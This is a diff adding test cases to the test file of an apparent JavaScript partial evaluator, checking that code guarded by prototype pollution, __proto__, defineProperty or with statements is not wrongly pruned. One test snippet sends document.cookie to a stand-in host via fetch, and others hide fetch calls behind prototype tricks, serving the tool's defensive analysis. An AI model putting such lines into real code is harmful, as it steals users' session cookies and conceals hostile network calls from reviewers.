@@ -148,6 +148,27 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     source: `var f=[0,0];f.fill(1);if(f[0]){fetch('https://h.example/f')}`,
     has: ["fetch('https://h.example/f')"],
   },
+  {
+    name: 'a name put on Object.prototype is not read as absent from objects',
+    source: `Object.prototype.armed=true;var o={};var u=o.armed?'https://h.example/q':'';if(o.armed){fetch(u+document.cookie)}`,
+    has: ["'https://h.example/q'", 'fetch(u+document.cookie)'],
+  },
+  {
+    name: 'a prototype set through __proto__, defineProperty or an array prototype is followed as unknown',
+    source: `var o={};o.__proto__={on:1};if(o.on){fetch('https://h.example/1')}
+      Object.defineProperty(Object.prototype,'go',{value:1});var p={};if(p.go){fetch('https://h.example/2')}
+      Array.prototype.ready=1;var a=[];if(a.ready){fetch('https://h.example/3')}`,
+    has: [
+      "fetch('https://h.example/1')",
+      "fetch('https://h.example/2')",
+      "fetch('https://h.example/3')",
+    ],
+  },
+  {
+    name: 'code inside a with statement is left as it is, and the object it writes is unknown',
+    source: `var n=0,o={n:0};with(o){n=1;if(n){fetch('https://h.example/w')}}if(o.n){fetch('https://h.example/v')}`,
+    has: ["fetch('https://h.example/w')", "fetch('https://h.example/v')"],
+  },
 ]
 
 describe('partial evaluator', () => {
